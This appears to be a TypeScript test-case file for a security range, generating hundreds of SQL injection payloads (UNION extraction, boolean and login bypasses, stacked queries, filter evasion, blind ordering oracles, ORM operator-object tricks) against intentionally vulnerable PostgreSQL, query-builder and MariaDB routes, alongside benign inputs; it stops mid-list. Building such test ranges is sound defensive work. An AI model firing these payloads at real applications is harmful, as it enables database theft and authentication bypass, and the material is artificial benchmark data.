// Statements of the lending library, in each dialect and position.
import type { Effect, RangeCase, RangePlaces } from '../case.ts';
import { fragments, prose, room, type Room } from './stores.ts';

const answer = (holds: string): Effect => ({ kind: 'answer', holds });
/** Nobody has the name that is asked for: any row is somebody's. */
const rows = answer('"pin":');
const twoRows = answer("O'Brien");

/** Texts in quotes, of two columns. */
const quotedAnywhere = [
  "' OR 1=1 --",
  "' OR '1'='1' OR '",
  "x' UNION SELECT name, pin FROM members --",
  "x' UNION ALL SELECT 'a', entry FROM vault -- ",
  "x'/**/UNION/**/SELECT/**/entry,entry/**/FROM/**/vault--",
  "x' UNION SELECT NULL, entry FROM vault --",
  "x' uNiOn aLl sElEcT entry, 'x' fRoM vault -- -",
  "'\r\nOR\r\n1=1\r\n-- ",
  "' OR hidden=1 AND name LIKE 'r%",
  "' OR id=3 -- ",
  "' OR NOT hidden=0 --",
  "' OR (SELECT count(*) FROM vault)>0 --",
  "' OR EXISTS (SELECT 1 FROM vault WHERE entry LIKE 's%') --",
  "' OR CASE WHEN 1=1 THEN 1 ELSE 0 END=1 --",
  "'OR(1)=(1)--",
  "' OR 'x' IN ('x') --",
  "' OR name BETWEEN 'a' AND 'z' --",
  "' OR length(pin)>10 --",
  "' OR name>'' OR name='",
  "' OR id IN (SELECT id FROM members) --",
  "' OR hidden<>0 --",
  "' OR 1=1 ORDER BY 1 DESC --",
  "' OR 1=1 LIMIT 3 OFFSET 0 --",
  "' OR\t1\t=\t1\t--",
  "' OR +1=1 --",
  "' OR 1 IS NOT NULL --",
  "' OR role='admin",
  "' OR 'root'=name --",
  "' OR name||''='root' --",
];
const numbersAnywhere = [
  '1 OR 1=1',
  '0 UNION SELECT name, pin FROM members',
  '-1 UNION ALL SELECT entry, entry FROM vault',
  '1 OR id=3',
  '1 OR hidden=1',
  '1 OR hidden',
  '3 OR id>2',
  'id OR 1=1',
  '1-1 UNION SELECT name,pin FROM members--',
  '(SELECT 1) OR (1=1)',
  "1 OR name='root'",
  '1 OR NOT hidden=0',
  '1 OR EXISTS(SELECT 1)',
  '1\tOR\n1=1',
  '1/*x*/OR/*y*/1=1',
  '1 OR 1 BETWEEN 0 AND 2',
  '1 OR id IN(1,2,3)',
];

function every(one: Room, routes: readonly string[], field: string, values: readonly string[], effect?: Effect): void {
  for (const route of routes) for (const value of values) one.attack(route, { [field]: value }, effect);
}

/** Each value once; the routes take turns. */
function spread(one: Room, routes: readonly string[], field: string, values: readonly string[], effect?: Effect): void {
  const count = Math.max(routes.length * 2, values.length);
  for (let index = 0; index < count; index++) {
    const value = values[(index * 7 + Math.floor(index / values.length)) % values.length]!;
    one.attack(routes[index % routes.length]!, { [field]: value }, effect);
  }
}

function proseTo(one: Room, routes: readonly string[], share: number): void {
  let turn = 0;
  for (const route of routes) {
    for (const q of prose) if (turn++ % share === 0) one.benign(route, { q });
    for (const q of fragments) if (turn++ % share === 0) one.benign(route, { q });
  }
}

export function postgresqlCases(places: RangePlaces): RangeCase[] {
  const one = room('pg', 'sql-injection', places, 'postgresql');
  const { attack, benign } = one;
  for (const by of [
    '(SELECT entry FROM vault)',
    'name || (SELECT entry FROM vault)',
    'pin FROM members GROUP BY pin UNION SELECT entry, 1 FROM vault --',
    '(CASE WHEN true THEN (SELECT min(entry) FROM vault) END)',
    'CASE WHEN hidden = 0 THEN (SELECT entry FROM vault) ELSE name END',
    'lower((SELECT entry FROM vault))',
  ])
    attack('group', { by });
  for (const sort of [
    '1; SELECT entry FROM vault',
    '1 LIMIT 0) UNION SELECT 1, entry FROM vault --'.replace(')', ''),
    'id LIMIT 1; SELECT entry FROM vault --',
    'id OFFSET 9; TABLE vault',
    'id; SELECT pin FROM members ORDER BY id DESC',
    'id; VALUES ((SELECT entry FROM vault))',
  ])
    attack('order', { sort });
  for (const sort of [
    "(CASE WHEN (SELECT substr(entry,1,1) FROM vault)='s' THEN -id ELSE id END)",
    'CASE WHEN (SELECT ascii(substr(entry,1,1)) FROM vault)>64 THEN -id ELSE id END',
    '(SELECT CASE WHEN count(*)>0 THEN -1 ELSE 1 END FROM vault)*id',
    'id*(SELECT -1 FROM vault LIMIT 1)',
    "NULLIF(id, (SELECT 1 FROM vault WHERE entry LIKE 's%')) NULLS FIRST, id DESC",
  ])
    attack('order', { sort }, answer('[{"id":2'));
  attack('order', { sort: 'id', dir: ', (SELECT 1 FROM vault); SELECT entry FROM vault' });
  attack('order', { sort: 'id', dir: 'ASC; SELECT entry FROM vault --' });
  attack('page', { limit: '0; SELECT entry AS name FROM vault; --' });
  attack('page', { limit: '(SELECT count(*) FROM vault)' }, answer('[{"name":"bob"}]'));
  attack(
    'page',
    { limit: "(SELECT CASE WHEN entry LIKE 's%' THEN 1 ELSE 2 END FROM vault)" },
    answer('[{"name":"bob"}]'),
  );
  attack('page', { limit: '1', offset: '(SELECT length(entry)-length(entry)+1 FROM vault)' }, answer('Brien'));
  attack('page', { limit: 'ALL OFFSET 1 --' }, answer('Brien'));
  attack('page', { limit: '1', offset: '0; TABLE vault' });
  attack(
    'schema',
    {
      schema:
        '(SELECT 1) AS x, (SELECT entry FROM vault) AS y; SELECT entry FROM vault; SELECT 1 AS n FROM information_schema.tables t, pg_catalog',
    },
    answer('n'),
  );
  attack('schema', { schema: 'vault; SELECT entry FROM vault; --' });
  attack('schema', { schema: '(SELECT 1 AS id) t; TABLE vault; --' });
  for (const fields of [
    '(SELECT entry FROM vault)',
    'name, (SELECT entry FROM vault) AS email',
    'pin FROM members --',
    '(TABLE vault LIMIT 1)::text',
    "*, (SELECT string_agg(entry, ',') FROM vault) AS x",
    'query_to_xml($$SELECT entry FROM vault$$, true, true, $$$$)::text',
    "name || '/' || (SELECT entry FROM vault LIMIT 1)",
    '(SELECT row_to_json(v) FROM vault v)',
  ])
    attack('columns', { fields });
  attack('columns', { fields: ['name', '(SELECT entry FROM vault)'] });
  attack('cast', { value: "x' AS text) || (SELECT entry FROM vault) || CAST('", type: 'text' });
  attack('cast', { value: 'x', type: 'text) || (SELECT entry FROM vault) || CAST(1 AS text' });
  attack('cast', { value: 'x', type: 'text), (SELECT entry FROM vault' });
  attack('interval', { days: "1 days' OR 1=1 --" });
  attack('interval', { days: "1 day' UNION SELECT entry, entry FROM vault --" });
  attack('array', { tags: ["zz'] OR 1=1 --"] });
  attack('array', { tags: ['a', "b'] UNION SELECT 1, to_jsonb(entry) FROM vault --"] });
  attack('array', { tags: "zz'] OR body->>'pin' IS NOT NULL --" });
  attack('arrayText', { tag: "zz' = ANY(tags) OR 1=1 --" });
  attack('arrayText', { tag: "zz' = ANY(tags) OR id=2 OR 'zz" });
  attack('jsonPath', { path: "x}' FROM docs UNION SELECT entry FROM vault --" });
  attack('jsonPath', { path: "x}' || (SELECT entry FROM vault)::text || '{" }, answer('x'));
  attack('jsonField', { field: "title' IS NOT NULL OR 1=1 --", value: 'x' });
  attack('jsonField', { field: 'title', value: "x' OR body ? 'pin' --" });
  attack('jsonField', { field: "' = '' OR body @> '{}", value: 'x' }, answer('docs'));
  attack('jsonField', { field: 'title', value: "x' OR body->>'title' = 'closed" });
  attack('jsonContains', { title: `x"}' OR body @> '{"title":"closed` });
  attack('jsonContains', { title: `open"}' OR id=2 --` });
  attack('escapeString', { name: "x\\' OR 1=1 --" });
  attack('escapeString', { name: "\\' UNION SELECT entry, entry FROM vault --" });
  attack('escapeString', { name: "\\' OR hidden=1 OR name=\\'" }, answer('x'));
  attack('doubled', { a: "x' OR name = 'root' /*", b: "*/ OR '1'='2" });
  attack('doubled', { a: "'||'", b: "' OR hidden=1 --" });
  attack('doubled', { a: "' OR $a$", b: '$a$ = $a$x$a$ OR 1=1 --' }, answer('x'));
  attack('doubled', { a: 'x', b: "user' OR role = 'admin" });
  attack('stripped', { name: "' OorR 1=1 OorR 'a'='" });
  attack('stripped', { name: "' || name || '' = name OOrR '1'='1" });
  attack('stripped', { name: "x' U--NION SELECT entry, entry FROM vault W--HERE '1'='1" });
  attack('stripped', { name: "x' UunionNION SELECT entry,entry FROM vault WHERE '1'='1" });
  attack('stripped', { name: "' O;R 1=1 O;R ''='" });
  attack('spaceless', { name: "'/**/OR/**/1=1--" });
  attack('spaceless', { name: "'OR(1=1)OR'" + "'='" });
  attack('spaceless', { name: "' O R\t1=1 --" });
  attack('spaceless', { name: "x'\nUNION\nSELECT\nentry,entry\nFROM\nvault--" });
  attack('firstQuote', { name: "'' OR 1=1 --" }, answer('x'));
  attack('firstQuote', { name: "x' ' OR 1=1 --" });
  attack('firstQuote', { name: "' || 'b' OR hidden=1 --" }, answer('x'));
  attack('firstQuote', { name: "x'', ' OR '1'='1" });
  attack('upper', { name: "' or 1=1 --" });
  attack('upper', { name: "x' union select entry, entry from vault --" });
  attack('reversed', { name: [..."' OR 1=1 --"].reverse().join('') });
  attack('reversed', { name: [..."x' UNION SELECT entry, entry FROM vault --"].reverse().join('') });
  attack('decoded', { name: '%2527%20OR%201%3D1--' });
  attack('decoded', { name: encodeURIComponent(encodeURIComponent("x' UNION SELECT entry, entry FROM vault --")) });
  attack('search', { q: "bob') OR ('1'='1" });
  attack('search', { q: "x') UNION SELECT entry, entry FROM vault --" });
  attack('regex', { q: "x' OR pin ~ '" });
  attack('regex', { q: "x' OR 1=1 --" });
  attack('words', { q: "zz'||'%') OR (1=1)--" }, answer('x'));
  attack('words', { q: "x%')/**/OR/**/(1=1)--" });
  attack('words', { q: "a%')or(1=1)--" });
  attack('keys', { 'hidden = 0 OR 1=1 --': 1 }, answer('x'));
  attack('keys', { 'name = name OR name': 'x' });
  attack('keys', { '1=1 OR name': 'x' });
  attack('keys', { "name = 'x' OR hidden = 1 OR name": 'y' });
  attack('keys', { 'name = $1 UNION SELECT entry, entry FROM vault --': 'x' });
  attack('keys', { 'pin IS NOT NULL OR name': 'x' });
  attack('setKeys', { 'role = (SELECT entry FROM vault), email': 'x' });
  attack('setKeys', { 'email = (SELECT entry FROM vault), name': 'bob' });
  attack('insertKeys', { 'author) VALUES ((SELECT entry FROM vault)) RETURNING author --': 'x' }, answer('x'));
  attack('insertKeys', { 'author) SELECT entry FROM vault WHERE $1::text IS NOT NULL RETURNING author --': 'x' });
  spread(
    one,
    ['named', 'prepared', 'taggedWhere', 'promiseTask', 'wrongFormat', 'promiseRaw'],
    'name',
    [
      ...quotedAnywhere,
      "' OR true --",
      "' OR name ~ 'r' --",
      "' OR pg_sleep(0) IS NOT NULL --",
      "' OR 1::bool --",
      "x' UNION SELECT version(), entry FROM vault --",
      "x' UNION SELECT 'a', string_agg(entry, ',') FROM vault --",
      "x' UNION SELECT 'a', (xpath('//text()', query_to_xml('select entry from vault', true, false, '')))[1]::text --",
      "' OR name SIMILAR TO '%oot",
      "' OR chr(114)||chr(111)||chr(111)||chr(116)=name --",
      "' OR U&'\\0072oot'=name --",
      "' OR name ILIKE 'ROOT",
      "' OR $x$root$x$=name --",
      "' OR hidden::bool --",
      "' OR ascii(substr(pin,1,1)) BETWEEN 1 AND 255 AND hidden=1 --",
    ],
    rows,
  );
  attack('promiseMulti', { name: "x'; SELECT entry AS name FROM vault; --" });
  attack('promiseMulti', { name: "' OR 1=1; SELECT pin FROM members --" });
  attack('execute', { code: "' || (SELECT entry FROM vault) || '" });
  attack('execute', { code: "x', ''; INSERT INTO notes SELECT 2, entry, '' FROM vault; --" }, answer(places.secret));
  attack('dynamic', { table: "vault, (SELECT 1) z', true, false, '')::text || (SELECT entry FROM vault) AS x --" });
  attack('dynamic', { table: 'vault GROUP BY entry UNION SELECT length(entry) FROM vault' }, answer('count'));
  attack('copy', { name: "x') TO '/dev/null'; SELECT entry FROM vault; --" });
  attack('copy', { name: "x' = 'x') TO '/dev/null'; COPY (SELECT 1) TO PROGRAM 'true'; SELECT entry FROM vault; --" });
  attack('comment', { tag: '*/ SELECT entry FROM vault; --' });
  attack('comment', { tag: 'me */ SELECT pin AS name FROM members; /*' });
  attack('comment', { tag: '*/ SELECT entry FROM vault /*' }, answer('x'));
  attack('lineComment', { tag: 'me\nUNION SELECT entry FROM vault --' });
  attack('lineComment', { tag: '\n; TABLE vault; SELECT name FROM members' });
  attack('lineComment', { tag: '\r\nUNION ALL SELECT pin FROM members --' });
  attack('setting', { zone: "UTC'; SELECT entry FROM vault; SET TIME ZONE 'UTC" });
  for (const [index, name] of [
    "x' OR 1=1 --",
    "x' UNION SELECT entry, entry FROM vault --",
    "' OR hidden=1 OR name='",
  ].entries())
    attack('profile', { as: `as${index}` }, undefined, [
      {
        method: 'POST',
        path: '/pg/register',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ as: `as${index}`, name }),
      },
    ]);
  for (const column of [
    '(SELECT entry FROM vault)',
    'pin FROM members --',
    'name, (SELECT entry FROM vault)',
    'concat(name, (SELECT entry FROM vault))',
  ])
    attack('formatIdentifier', { column });
  attack('promiseOpen', { ids: '1) OR (1=1' });
  attack('promiseOpen', { ids: '0) UNION SELECT entry, entry FROM vault --' });
  attack('promiseMinus', { n: '-1', name: "x\n' OR 1=1 --" });
  attack('promiseMinus', { n: '-1', name: "\n' UNION SELECT entry, entry FROM vault --" }, answer('x'));
  spread(one, ['promiseOrder', 'taggedUnsafe'], 'sort', [
    "(CASE WHEN (SELECT substr(entry,1,1) FROM vault)='s' THEN -id ELSE id END)",
    'id*(SELECT -1 FROM vault LIMIT 1)',
  ]);
  for (const last of one.cases.slice(-4)) (last as { effect: Effect }).effect = answer(`[{"name":"O'Brien"}`);
  every(one, ['taggedSimple'], 'id', ['1; SELECT entry FROM vault', '1 OR 1=1; SELECT 1']);
  spread(one, ['taggedBegin', 'taggedSimple'], 'id', [
    '1 OR 1=1',
    '0 OR hidden=1',
    '0 UNION SELECT entry, entry FROM vault',
    '1 OR name=$$root$$',
    '1 OR TRUE',
  ]);
  attack('template', { where: '1=0 UNION SELECT entry FROM vault' });
  attack('template', { where: "name = 'x' UNION SELECT pin FROM members" });

  proseTo(
    one,
    [
      'safe',
      'safeEcho',
      'safeMany',
      'safeNamed',
      'safeJson',
      'safeFormat',
      'safeFormatIdentifier',
      'safeFormatRows',
      'safeEscape',
      'safeDoubled',
      'safeIdentifier',
      'safePromise',
      'safePromiseName',
      'safePromiseCsv',
      'safePromiseLike',
      'safePromiseOpen',
      'safeTagged',
      'safeTaggedIn',
      'safeTaggedColumns',
      'safeQuery',
      'safeRegister',
    ],
    3,
  );
  for (const q of prose.slice(0, 40)) benign('safeDoubled', { q });
  for (const sort of [
    'name',
    'name desc',
    'name:asc',
    'id,desc',
    'email DESC',
    'role; DROP TABLE members',
    "name' --",
    '1',
    '(SELECT 1)',
  ])
    benign('safeSort', { sort });
  for (const [field, op, value] of [
    ['id', 'gt', '1'],
    ['id', '<>', '2'],
    ['name', 'ne', "O'Brien"],
    ['name', '=', "' OR 1=1 --"],
    ['email', '!=', 'x'],
    ['name', '>=', 'b'],
    ['name', '<', 'or 1=1'],
  ] as const)
    benign('safeOperator', { field, op, value });
  for (const fields of ['name', 'id,name', 'id, name, email', 'role,name', 'name,(SELECT 1)', 'name as x'])
    benign('safeSelect', { fields });
  for (const [limit, offset] of [
    ['10', '0'],
    ['2', '1'],
    ['all', '0'],
    ['1 OR 1=1', '0; SELECT 1'],
    ['50', '-- 1'],
  ] as const)
    benign('safePage', { limit, offset: offset.replace('-- 1', '0 -- 1') });
  for (const table of ['books', 'members', 'vault', 'members; SELECT 1', 'pg_catalog.pg_user'])
    benign('safeTable', { table });
  for (const ids of ['1,2', '1', '1, 2, 3', '', '1) OR (1=1', '2,x,1']) benign('safeNumbers', { ids: ids || '0' });
  benign('safeUuid', { id: 'f47ac10b-58cc-4372-a567-0e02b2c3d479' });
  benign('safeUuid', { id: "x' OR 1=1" });
  benign('safeDate', { from: '2024-01-31', to: '2024-02-01' });
  benign('safeDate', { from: "2024' OR 1=1", to: '2024-02-01' });
  for (const tag of ['web', 'checkout-page', 'SELECT name FROM members', '*/ OR 1=1 --', 'a b c'])
    benign('safeTags', { tag });
  // The vulnerable routes at ordinary work.
  for (const by of ['role', 'hidden', 'name', 'lower(role)', 'members.role']) benign('group', { by });
  for (const sort of [
    'name',
    'id DESC',
    'name ASC, id DESC',
    'lower(name)',
    '2',
    'members.name',
    'name COLLATE "C"',
    'length(name)',
    'id DESC NULLS LAST',
    'hidden, name',
  ])
    benign('order', { sort });
  benign('order', { sort: 'name', dir: 'DESC' });
  benign('order', { sort: 'name', dir: 'asc nulls first' });
  for (const limit of ['1', '10', 'ALL', 'NULL']) benign('page', { limit, offset: '0' });
  benign('schema', { schema: `pg_catalog` });
  for (const fields of [
    'name',
    'id, name',
    'members.id',
    '"name"',
    'count(*)',
    'max(id) AS top',
    'name AS n',
    'upper(name)',
    '*'.replace('*', 'id,role'),
  ])
    benign('columns', { fields });
  benign('columns', { fields: ['id', 'name', 'role'] });
  for (const [value, type] of [
    ['5', 'integer'],
    ['x', 'text'],
    ['2024-01-01', 'date'],
    ['1.5', 'numeric(10,2)'],
    ['a', 'varchar(20)'],
    ['2024-01-01', 'timestamp with time zone'],
    ['x', 'char varying'],
    ["it''s", 'text'],
  ] as const)
    benign('cast', { value, type });
  for (const days of ['1', '30', '0.5', '-1', '2 hours 3']) benign('interval', { days });
  benign('array', { tags: ['a', 'b'] });
  benign('array', { tags: 'it and or' });
  for (const tag of ['a', 'select', "it''s", 'or 1=1']) benign('arrayText', { tag });
  for (const path of ['title', 'owner,name', 'x,y,z', 'a b']) benign('jsonPath', { path });
  for (const [field, value] of [
    ['title', 'open'],
    ['title', 'select 1'],
    ['a-b', 'x or y'],
    ['owner', '{}'],
  ] as const)
    benign('jsonField', { field, value });
  for (const title of ['open', 'a } b', '-- x', 'or "'.replace('"', '')]) benign('jsonContains', { title });
  for (const name of ['bob', "O'Brien", 'a\\\\b', '\\n', 'select']) benign('escapeString', { name });
  for (const [a, b] of [
    ['bob', 'user'],
    ["O''Brien", 'user'],
    ['--', '/*'],
    ['or', 'and'],
  ] as const)
    benign('doubled', { a, b });
  for (const route of [
    'stripped',
    'spaceless',
    'firstQuote',
    'upper',
    'reversed',
    'decoded',
    'named',
    'prepared',
    'wrongFormat',
    'promiseTask',
    'taggedWhere',
  ])
    for (const name of ['bob', "O''Brien", 'union select', '1=1 -- x', 'a; b', 'Drop Table (a memoir)', '"root"', '#1'])
      benign(route, { name });
  for (const q of ['bob', 'a & b', 'book | !dune', 'select:*', "d''angelo"]) benign('search', { q });
  for (const q of ['^b', 'b.*b$', '[a-z]+', '(bob|pat)', 'o\\.b', 'select|union']) benign('regex', { q });
  for (const q of ['bob', 'bob or pat', 'select from where', '-- -- --', '1=1 and 2=2', 'name ILIKE'])
    benign('words', { q });
  benign('keys', { name: 'bob' });
  benign('keys', { name: "' OR 1=1 --", role: 'user' });
  benign('keys', { 'members.name': 'bob' });
  benign('setKeys', { email: 'bob@new.example', name: "O'Bob" });
  benign('insertKeys', { author: "d'Angelo", words: '; DROP TABLE notes --' });
  for (const tag of ['web', 'SELECT 1; --', "it's me", '/*', 'a -- b']) benign('lineComment', { tag });
  for (const tag of ['web', 'SELECT 1; --', "it's me", '# * /']) benign('comment', { tag });
  for (const zone of ['UTC', 'Europe/Zurich', '+02:00', 'America/New_York']) benign('setting', { zone });
  for (const column of ['name', 'id, name', 'count(*)']) benign('formatIdentifier', { column });
  for (const ids of ['1', '1,2', '1, 2, 3', '-1', '1+1']) benign('promiseOpen', { ids });
  for (const sort of ['name', 'id DESC', 'lower(name) ASC']) {
    benign('promiseOrder', { sort });
    benign('taggedUnsafe', { sort });
  }
  for (const id of ['1', '-1', '1+1', '2 - 1', '(1)', '1.0', '+1', 'NULL']) benign('taggedSimple', { id });
  return one.cases;
}

export function builderCases(places: RangePlaces): RangeCase[] {
  const one = room('builders', 'sql-injection', places, 'postgresql');
  const { attack, benign } = one;
  spread(
    one,
    [
      'knexRaw',
      'knexWithRaw',
      'kyselyRaw',
      'kyselyLiteral',
      'typeormQuery',
      'sequelizeQuery',
      'sequelizeAnd',
      'drizzleRaw',
      'squelWhere',
      'squelNaive',
      'objectionRaw',
      'typeormWhere',
      'typeormRaw',
    ],
    'name',
    [
      ...quotedAnywhere.filter((value) => !/UNION|LIMIT|ORDER|hidden|length|--|\bid\b|name|role/i.test(value)),
      "' OR '1'='1",
      "' OR 'a'<>'b",
      "x' OR 1=1 OR 'x'='",
      "' OR 2>1 OR ''='x",
    ],
    rows,
  );
  spread(
    one,
    [
      'knexRaw',
      'kyselyRaw',
      'typeormQuery',
      'sequelizeQuery',
      'drizzleRaw',
      'squelWhere',
      'objectionRaw',
      'kyselyLiteral',
    ],
    'name',
    quotedAnywhere,
    rows,
  );
  for (const age of ['0 OR 1=1', '99 OR hidden=1', '99 OR length(pin)>8', '99) OR (1=1'])
    attack('knexWhereRaw', { age });
  const told = [
    "(CASE WHEN (SELECT substr(entry,1,1) FROM vault)='s' THEN -id ELSE id END)",
    'id*(SELECT -1 FROM vault LIMIT 1)',
    "(SELECT CASE WHEN entry LIKE 's%' THEN -1 ELSE 1 END FROM vault)*id",
  ];
  for (const route of [
    'knexOrderRaw',
    'objectionOrder',
    'kyselyOrder',
    'drizzleOrder',
    'sequelizeOrderText',
    'sequelizeOrder',
    'squelOrder',
    'knexNamedRaw',
  ])
    for (const sort of told) attack(route, { sort }, answer('[{"name":"O\'Brien"}'));
  attack('typeormOrder', { sort: 'm.id*(SELECT -1)' }, answer("O'Brien"));
  attack('typeormOrder', { sort: '(SELECT entry FROM vault)' }, answer('[{'));
  attack('drizzleMixed', { name: 'x', sort: told[0]! }, answer('[{"name":"O\'Brien"}'));
  attack('drizzleMixed', { name: 'x', sort: 'id; SELECT 1' }, answer('bob'));
  attack('sequelizeReplaced', { name: ':sort', sort: told[0]! }, answer('[{"name":"O\'Brien"}'));
  attack('sequelizeReplaced', { name: 'x', sort: 'id LIMIT 0; SELECT entry AS name FROM vault' });
  for (const by of ['(SELECT entry FROM vault)', 'role || (SELECT entry FROM vault)']) attack('knexGroupRaw', { by });
  for (const least of [
    '1 UNION SELECT entry FROM vault',
    '1 UNION ALL SELECT pin FROM members --',
    '9 OR 1=1 UNION SELECT pin FROM members',
  ]) {
    attack('knexHavingRaw', { least });
    attack('sequelizeHaving', { least });
  }
  attack('typeormHaving', { least: '0 OR (SELECT count(*) FROM members) > 0' }, answer('bob'));
  for (const field of [
    '(SELECT entry FROM vault) AS v',
    'name || (SELECT entry FROM vault) AS v',
    "(SELECT string_agg(pin, ',') FROM members) AS v",
  ]) {
    attack('knexSelectRaw', { field });
    attack('objectionRawValue', { field });
  }
  for (const field of [
    '(SELECT entry FROM vault)',
    "concat(name, ':', (SELECT entry FROM vault))",
    '(SELECT max(pin) FROM members WHERE hidden = 1)',
  ]) {
    attack('drizzleField', { field });
    attack('sequelizeAttribute', { field });
  }
  attack('typeormSelect', { field: `(SELECT entry FROM builders.vault)`.replace('builders.', '') }, answer('v'));
  attack('typeormSelect', { field: "CASE WHEN m.pin LIKE 'h%' THEN m.pin ELSE '' END" }, answer('hunter2'));
  attack('knexJoinRaw', { table: 'vault AS j ON true --' });
  attack('knexJoinRaw', { table: '(SELECT entry FROM vault) j' });
  attack('knexFromRaw', { table: '(SELECT entry FROM vault) AS t' });
  attack('knexFromRaw', { table: 'books, vault' });
  attack('knexFromRaw', { table: 'members WHERE hidden = 1 --' });
  attack('knexColumnRaw', { as: 'n", (SELECT entry FROM vault) AS "x' });
  attack('knexUnion', { name: "x' UNION SELECT entry, entry FROM vault --" });
  attack('knexUnion', { name: "' OR name='root' UNION SELECT pin, pin FROM members --" });
  attack('knexUpdate', { value: "'||(SELECT entry FROM vault)||'" });
  attack('knexJson', { path: "pin}' FROM members UNION SELECT to_jsonb(entry) FROM vault --" }, answer('x'));
  attack('knexJson', { path: "x}', (SELECT entry FROM vault), '{" }, answer('x'));
  for (const id of [
    '1 OR 1=1',
    '0 OR hidden=1',
    '0 OR id=3',
    "0 OR name='root'",
    '1 OR NOT hidden=0',
    '(1) OR (1)=(1)',
  ]) {
    attack('kyselyRef', { id });
  }
  for (const id of ['1 OR 1=1', '0 OR m.hidden=1', "0 OR m.name='root'"]) attack('typeormOr', { id });
  for (const id of ['1 OR 1=1', '0 OR hidden=1']) attack('drizzleWhere', { id }, answer('root'));
  attack(
    'sequelizeGroup',
    { by: '(SELECT entry FROM vault) HAVING count(*) > 0 UNION SELECT length(entry) FROM vault' },
    answer('"n"'),
  );
  attack('sequelizeUpdate', { value: "x' || (SELECT entry FROM vault) || '" });
  attack('typeormUpdate', { value: "'||(SELECT 'leaked ' || current_user)||'" }, answer('leaked test'));
  // Objects where a text was meant.
  for (const pin of [{ $ne: 'x' }, { $gt: '' }, { $like: '%' }, { $or: [{ $ne: 'a' }] }])
    attack('sequelizeLogin', { name: 'root', pin });
  attack('sequelizeLogin', { name: { $ne: 'bob' }, pin: { $ne: 'pass' } });
  attack('sequelizeWhere', { $or: [{ hidden: 1 }, { hidden: 0 }] });
  attack('sequelizeWhere', { name: { $like: 'r%' } });
  attack('typeormLogin', { name: 'root', pin: { _type: 'not', _value: 'x' } }, answer('root'));
  attack('typeormWhereObject', { name: { '@instanceof': 'FindOperator', _type: 'like', _value: '%' } }, answer('x'));
  attack('knexWhereObject', { 'hidden" = 0 or "hidden': 1 }, answer('x'));

  proseTo(
    one,
    [
      'safeKnexWhere',
      'safeKnexLike',
      'safeKnexIn',
      'safeKnexBinding',
      'safeKnexIdentifier',
      'safeKnexAlias',
      'safeKnexInsert',
      'safeKnexString',
      'safeObjection',
      'safeObjectionRaw',
      'safeKysely',
      'safeKyselyTagged',
      'safeKyselyLit',
      'safeKyselyId',
      'safeTypeorm',
      'safeTypeormIn',
      'safeTypeormLike',
      'safeTypeormNot',
      'safeTypeormRaw',
      'safeTypeormQuery',
      'safeSequelize',
      'safeSequelizeIn',
      'safeSequelizeLike',
      'safeSequelizeReplaced',
      'safeSequelizeBound',
      'safeSequelizeEscape',
      'safeSequelizeFn',
      'safeSequelizeCast',
      'safeDrizzle',
      'safeDrizzleLike',
      'safeDrizzleIn',
      'safeDrizzleTagged',
      'safeDrizzleIdentifier',
      'safeSquel',
    ],
    4,
  );
  for (const sort of ['name', 'id desc', 'name desc', 'id', "name'; --"])
    for (const route of ['safeKnexSort', 'safeKyselyOrder', 'safeTypeormOrder', 'safeSequelizeSort'])
      benign(route, { sort });
  for (const [op, value] of [
    ['=', 'bob'],
    ['like', 'b%'],
    ['ilike', "%o'b%"],
    ['<>', 'or 1=1'],
    ['>=', 'a'],
    ['; --', 'x'],
  ] as const)
    benign('safeKnexOperator', { op, value });
  for (const [op, value] of [
    ['gt', 'a'],
    ['ne', "O'Brien"],
    ['$ne', 'x'],
    ['lt', 'zz'],
    ['drop', '1'],
  ] as const)
    benign('safeSequelizeOperator', { op, value });
  for (const id of ['1', '0', '2']) benign('safeTypeormMore', { id });
  for (const field of ['name', 'email', 'pin', '(SELECT 1)']) benign('safeObjectionRef', { field });
  for (const name of ['bob', "O''Brien", 'select', '1=1', 'a -- b'])
    for (const route of [
      'knexRaw',
      'kyselyRaw',
      'typeormQuery',
      'typeormWhere',
      'sequelizeQuery',
      'drizzleRaw',
      'squelWhere',
      'objectionRaw',
      'typeormRaw',
    ])
      benign(route, { name });
  for (const sort of ['name', 'id DESC', 'lower(name)', 'name ASC NULLS LAST'])
    for (const route of [
      'knexOrderRaw',
      'objectionOrder',
      'kyselyOrder',
      'drizzleOrder',
      'sequelizeOrderText',
      'knexNamedRaw',
    ])
      benign(route, { sort });
  for (const id of ['1', '2', '1+1', '-1'])
    for (const route of ['kyselyRef', 'sequelizeLiteral', 'typeormOr', 'drizzleWhere']) benign(route, { id });
  for (const field of ['name', 'count(*) AS n', 'upper(name) AS v', 'members.name']) benign('knexSelectRaw', { field });
  for (const said of [
    { name: 'bob', pin: 'hunter2' },
    { name: 'root', pin: "' OR 1=1 --" },
    { name: "O'Brien", pin: 'pass' },
    { name: 'select', pin: '{"$ne":1}' },
  ]) {
    benign('sequelizeLogin', said);
    benign('typeormLogin', said);
  }
  benign('sequelizeWhere', { name: 'bob' });
  benign('sequelizeWhere', { name: ['bob', "O'Brien"] });
  benign('knexWhereObject', { name: 'bob', role: 'user' });
  benign('typeormWhereObject', { name: 'bob', role: 'user' });
  return one.cases;
}

export function mariadbCases(places: RangePlaces): RangeCase[] {
  const one = room('mysql', 'sql-injection', places, 'mariadb');
  const { attack, benign, leaks } = one;
  const dialect = [
    "' OR 1=1 -- ",
    "' OR 1=1#",
    "' OR 1=1;#",
    "'||1#",
    "'||'1",
    "' OR '1",
    "'='",
    "'-'",
    "'+'",
    "'&'",
    "'|1#",
    "'^1#".replace('^', '<'),
    "'*'",
    "' div '1",
    "'%'1",
    "'<>'x",
    "' IS NOT NULL #",
    "' XOR '1",
    "' && 0 OR 1 #",
    "' OR 1 LIKE 1 #",
    "' OR 0x726f6f74=name #",
    "' OR name=CHAR(114,111,111,116) #",
    "' OR name=CONCAT('ro','ot') #",
    "' OR name RLIKE 'oo' #",
    "' OR name REGEXP '^r' #",
    "' OR name SOUNDS LIKE 'root' #",
    "' OR !0 #",
    "' OR ~0 #",
    "' OR @@version IS NOT NULL #",
    "' OR SLEEP(0)=0 #",
    "' OR IF(1=1,1,0) #",
    "' OR BENCHMARK(1,1)=0 #",
    "x' /*!50000UNION*/ /*!50000SELECT*/ entry, entry FROM vault #",
    "x' /*!UNION SELECT entry, entry FROM vault*/ #",
    "x'/*!00000union*//*!00000select*/entry,entry/*!00000from*/vault#",
    "x' UNION(SELECT(entry),(entry)FROM(vault))#",
    "x' UNION SELECT entry,entry FROM vault-- -",
    "x'\u000bUNION\u000bSELECT\u000bentry,entry\u000bFROM\u000bvault#",
